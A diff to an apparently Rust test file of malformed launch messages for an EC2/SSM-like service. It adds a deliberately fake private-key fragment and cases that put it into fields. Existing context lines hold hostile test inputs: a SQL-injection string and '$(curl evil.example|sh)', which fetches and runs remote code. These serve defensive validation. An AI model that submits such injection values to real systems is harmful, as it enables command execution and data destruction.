@@ -132,6 +132,11 @@ impl Launch {
     }
 }
 
+/// The beginning of a private key, as somebody might paste it into the wrong field. It is none.
+const PRIVATE_KEY: &str = concat!("-----BEGIN EC PRIV", "ATE KEY-----\nMHcCAQEEIFakeFakeFakeFakeFakeFakeFakeFake");
+/// What of it may stand nowhere but in the body itself.
+pub const PRIVATE_KEY_SECRET: &str = "MHcCAQEEIFake";
+
 /// A group that exists, and that no route may match.
 pub const UNROUTED_GROUP: &str = "nobody-routes-this";
 
@@ -289,6 +294,8 @@ pub const ODD_MESSAGES: &[Odd] = &[
     odd("an instance id with a NUL", BAD_FIELD, |launch| launch.direct_with("EC2InstanceId", format!("{}\0", launch.instance))),
     odd("SQL for an instance id", BAD_FIELD, |launch| launch.direct_with("EC2InstanceId", "i-0a1b2c3d'; DROP TABLE nodes; --")),
     odd("a command for an instance id", BAD_FIELD, |launch| launch.direct_with("EC2InstanceId", "$(curl evil.example|sh)")),
+    odd("a private key for an instance id", BAD_FIELD, |launch| launch.direct_with("EC2InstanceId", PRIVATE_KEY)),
+    odd("a private key for a field name", UNKNOWN_ENVELOPE, |_| json!({PRIVATE_KEY: 1}).to_string()),
     odd("a managed instance of SSM", BAD_FIELD, |launch| launch.direct_with("EC2InstanceId", "mi-0a1b2c3d4e5f60718")),
     odd("an instance id of half a MiB", BAD_FIELD, |launch| launch.direct_with("EC2InstanceId", format!("i-{}", "0".repeat(1 << 19)))),
     // Other names that are none.
